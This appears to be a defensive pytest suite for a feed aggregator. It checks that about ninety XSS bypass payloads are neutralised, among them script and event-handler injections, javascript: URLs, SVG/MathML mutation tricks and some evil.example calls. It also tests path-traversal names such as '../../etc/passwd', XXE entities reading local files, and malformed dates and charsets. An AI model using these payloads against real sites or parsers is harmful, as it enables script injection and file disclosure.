"""What strangers write to get at readers or at the machine, through the whole reading path."""

import pytest
from html_rules import active
from world import Item, World, hrefs, rss, text

from aggregator.compose import slug_of
from aggregator.formats import parse
from aggregator.model import Entry, Person, Response
from aggregator.rules.clean import clean, safe_html

URL = "https://a.example/feed"

BYPASSES = (
    "<script>evil()</script>",
    "<ScRiPt/x src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<script\x00>evil()</script>",
    "<img src=x onerror=evil()>",
    "<img src=x onerror\n=\nevil()>",
    "<img/src=x/onerror=evil()>",
    "<img src=x:x onerror=evil()//",
    '<img """><script>evil()</script>">',
    "<svg onload=evil()>",
    "<svg><script href=data:,evil()></script></svg>",
    "<svg><animate onbegin=evil() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:evil()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=evil()>#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
    "<svg><foreignObject><iframe src=javascript:evil()></foreignObject></svg>",
    "<svg><title><style><img src=x onerror=evil()></style></title></svg>",
    "<svg><desc><template><img src=x onerror=evil()></template></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=evil()&gt;'>",
    "<math><mi xlink:href='javascript:evil()'>x</mi></math>",
    "<math href='javascript:evil()'>x</math>",
    "<math><mrow href='javascript:evil()'>x</mrow></math>",
    "<math><annotation-xml encoding='text/html'><script>evil()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<noembed><img title='</noembed><img src=x onerror=evil()>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=evil()>'>",
    "<textarea><img title='</textarea><img src=x onerror=evil()>'>",
    "<title><img title='</title><img src=x onerror=evil()>'>",
    "<style><img title='</style><img src=x onerror=evil()>'>",
    "<!--><img src=x onerror=evil()>-->",
    "<!-- --!><img src=x onerror=evil()> -->",
    "<![CDATA[><img src=x onerror=evil()>]]>",
    "<?php <img src=x onerror=evil()> ?>",
    "<template><img src=x onerror=evil()></template>",
    "<a href='javascript:evil()'>a</a>",
    "<a href=' \x01javascript:evil()'>a</a>",
    "<a href='java\tscr\nipt:evil()'>a</a>",
    "<a href='&#106;avascript&colon;evil()'>a</a>",
    "<a href='&#x0000006A&#x61vascript:evil()'>a</a>",
    "<a href='JAVASCRIPT&#58;evil()'>a</a>",
    "<a href='vbscript:evil()'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='feed:javascript:evil()'>a</a>",
    "<a href='view-source:javascript:evil()'>a</a>",
    "<a href='blob:https://a.example/1'>a</a>",
    "<a href='//evil.example/' onclick=evil()>a</a>",
    "<a href='https://a.example/' ping='https://evil.example/' target=_blank>a</a>",
    "<img src='data:image/svg+xml,<svg onload=evil()>'>",
    "<img srcset='data:image/svg+xml,x 1x, javascript:evil() 2x' src='https://a.example/i'>",
    "<picture><source srcset='javascript:evil()'><img src='https://a.example/i'></picture>",
    "<video poster='javascript:evil()' src='data:x'><source src='javascript:evil()'></video>",
    "<audio src=x onloadstart=evil()>",
    "<p style='background:url(javascript:evil())'>a</p>",
    "<p style='width:expression(evil())'>a</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>a</p>",
    "<style>@import 'https://evil.example/'</style>",
    "<link rel=stylesheet href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:evil()'>",
    "<base href='javascript:evil()//'><a href='x'>a</a>",
    "<iframe src='javascript:evil()'></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<frameset onload=evil()><frame src='javascript:evil()'></frameset>",
    "<object data='data:text/html,x'><param name=x value=y></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x archive=y></applet>",
    "<form action='javascript:evil()'><button formaction='javascript:evil()'>b</button></form>",
    "<input autofocus onfocus=evil()>",
    "<select autofocus onfocus=evil()><option>x</select>",
    "<details open ontoggle=evil()>x</details>",
    "<marquee onstart=evil()>x</marquee>",
    "<body onload=evil()>x",
    "<html onmouseover=evil()>x</html>",
    "<isindex action='javascript:evil()'>",
    "<table background='javascript:evil()'><tr><td background='javascript:evil()'>x</td></tr></table>",
    "<div id=location name=location>x</div>",
    "<a id=x><a id=x name=y>x</a>",
    "<img src='https://t.example/p' width=1 height=1>",
    "<blockquote cite='javascript:evil()'>x</blockquote>",
    "<q cite='data:text/html,x'>x</q>",
    "<map name=m><area href='javascript:evil()' shape=default></map>",
    "+ADw-script+AD4-evil()+ADw-/script+AD4-",
    "\u2028<img src=x onerror=evil()>\u2029",
    "<\u00a0script>evil()</script>",
    "<ſcript>evil()</ſcript>",
    "<img src=x oneRRor=evil()>",
)


@pytest.mark.parametrize("markup", BYPASSES)
def test_no_known_way_round_a_sanitiser_is_one(markup: str) -> None:
    for base in (None, "https://a.example/d/"):
        assert active(safe_html(markup, base)) == []
        assert active(safe_html(f"<p>before {markup} after</p>", base)) == []


def test_the_rules_of_the_tests_know_what_is_active() -> None:
    dangerous = [x for x in BYPASSES if active(x)]

    assert len(dangerous) > 60  # the others are harmless to a browser that reads what they say


@pytest.mark.parametrize("markup", BYPASSES)
def test_titles_names_and_categories_are_plain_text(markup: str) -> None:
    entry = clean(
        Entry(title=markup, authors=(Person(name=markup + "</b> Ann", url=markup),), rights=markup)
    )

    for said in (entry.title, entry.rights or "", *(p.name for p in entry.authors)):
        assert "\n" not in said and "\0" not in said
    assert all(p.url is None or p.url.startswith("https:") for p in entry.authors)
    assert not any("<img" in p.name or "<script>" in p.name for p in entry.authors)


def test_what_is_published_is_safe_in_every_element(world: World) -> None:
    world.sources("a")
    items = [
        Item(id=f"<{n}>", link="javascript:evil()", title=x, text=x, extra=f"<author>{n}</author>")
        for n, x in enumerate(BYPASSES)
        if "\0" not in x and "\x01" not in x
    ]
    world.serve("a", rss(*items))

    world.run()

    published = world.published()
    assert len(published) > 20
    for entry in published:
        assert hrefs(entry, "alternate") == []
        for element in entry.iter():
            if element.get("type") == "html":
                assert active(element.text or "") == []
            assert not element.get("href", "http").startswith(("javascript", "data", "vbscript"))
        assert text(entry, "id").startswith(("urn:", "tag:", "http"))


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "..", ".", "", "a/b", "a\\b", "CON", "a\0b", "x" * 300, ".htaccess", "~root", "a:b", "-rf", "财经/../x", "\u202egnp.exe"],
)  # fmt: skip
def test_no_name_leaves_the_folder(name: str) -> None:
    slug = slug_of(name, set())

    assert slug and "/" not in slug and "\\" not in slug and "\0" not in slug
    assert not slug.startswith((".", "-", "~")) and len(f"{slug}.atom".encode()) < 255


def test_a_category_from_outside_is_no_file_at_all(world: World) -> None:
    world.sources("a")
    world.serve("a", rss(Item(extra="<category>../../../tmp/x</category><category>a/b</category>")))

    world.run()

    assert set(world.bytes()) == {"all.atom", "a.atom"}
    assert not (world.folder.parent / "tmp").exists()


# ── XML, dates, charsets ─────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY x SYSTEM "file://{path}">',
        '<!ENTITY x PUBLIC "a" "file://{path}">',
        '<!ENTITY % p SYSTEM "file://{path}"> %p;',
        "<!ENTITY % a \"<!ENTITY x SYSTEM 'file://{path}'>\"> %a;",
        '<!ENTITY x "&#60;b&#62;{path}"><!ENTITY y SYSTEM "http://127.0.0.1:1/">',
        '<!ATTLIST title x CDATA "secret">',
    ],
)
@pytest.mark.parametrize("line", ["", "\n"])
@pytest.mark.parametrize("external", ["", 'SYSTEM "file://{path}" '])
def test_no_file_is_read_for_a_document(tmp_path, declared: str, line: str, external: str) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "secret.dtd"
    path.write_text('<!ENTITY x "a secret of this machine">')
    doctype = f"<!DOCTYPE rss {external}[{declared}]>".replace("{path}", str(path))
    body = (
        f"<?xml version='1.0'?>{line}{doctype}<rss version='2.0'><channel><item><title>a&x;b</title>"
        "<guid>1</guid></item></channel></rss>"
    )

    feed = parse(Response(url=URL, body=body.encode()))

    assert "secret of" not in repr(feed)
    assert [e.id for e in feed.entries] == ["1"]


@pytest.mark.parametrize(
    "said",
    [
        *("0000-00-00T00:00:00Z", "0001-01-01T00:00:00Z", "0000-01-01", "-0044-03-15T00:00:00Z", "10000-01-01T00:00:00Z"),
        *("99999999999999999999", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "2026-01-01T00:00:00+99:99"),
        *("2026-01-01T00:00:00-24:00", "Fri, 31 Dec 9999 23:59:59 -9999", "Mon, 00 Jan 0000 00:00:00 GMT", "1e400", "NaN", "Infinity"),
        *("2026-01-01T25:61:61Z", "-1", "0", "\u0662\u0660\u0662\u0666-01-01", "2026-02-30", "１" * 90, "1/1/1", "{}", "P1Y"),
    ],
)  # fmt: skip
def test_a_date_that_is_none_costs_its_entry_nothing(world: World, said: str) -> None:
    world.sources("a")
    world.serve("a", rss(Item(id="1", title="It is there", date=said)))

    world.run()

    assert world.titles() == ["It is there"]
    assert text(world.published()[0], "updated").endswith("Z")


@pytest.mark.parametrize(
    "charset", ["utf-7", "utf-16-le", "utf-16-be", "utf-32-be", "cp037", "iso-2022-jp", "hz"]
)
@pytest.mark.parametrize("declared", ["", "utf-8", "utf-7", "us-ascii", "utf-16"])
def test_no_charset_smuggles_markup_past_the_sanitiser(charset: str, declared: str) -> None:
    said = "<script>evil()</script><img src=x onerror=evil()>text"
    prolog = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    body = f"{prolog}<rss><channel><item><title>t</title><description><![CDATA[{said}]]></description></item></channel></rss>"

    try:
        feed = parse(Response(url=URL, body=body.encode(charset)))
    except Exception as error:
        assert type(error).__name__ == "ParseError"
        return
    for entry in feed.entries:
        assert active(clean(entry).summary or "") == []
